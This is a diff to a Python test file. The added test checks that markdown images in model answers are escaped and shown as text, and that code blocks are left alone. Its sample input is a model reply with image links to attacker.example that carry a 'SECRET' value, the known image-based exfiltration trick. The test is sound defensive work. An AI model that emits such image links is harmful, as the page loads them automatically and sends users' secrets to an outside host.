@@ -60,3 +60,15 @@ def test_attack_strings_render_as_text_on_every_page(app_env: Config) -> None:
     rendered = [m.value for m in at.markdown]
     for attack in ATTACKS:
         assert attack in rendered  # shown verbatim, as text
+
+
+def test_markdown_images_from_models_are_shown_as_text_not_loaded() -> None:
+    from dmac_core.views.inert import inert_markdown
+
+    leak = "Sure! ![](https://attacker.example/?q=SECRET) and ![logo][r]\n\n[r]: https://attacker.example/x.png"
+    assert "![" not in inert_markdown(leak).replace("!\\[", "")
+    assert inert_markdown(leak).count("!\\[") == 2
+    code = "Use this:\n```rust\nlet v = vec![1, 2];\n```\nor `vec![3]` then ![x](data:image/png;base64,AAAA)"
+    assert inert_markdown(code) == code.replace("![x](data:", "!\\[x](data:")
+    # a streamed answer cut inside a code block keeps its code as written
+    assert inert_markdown("```\nlet v = vec![1") == "```\nlet v = vec![1"
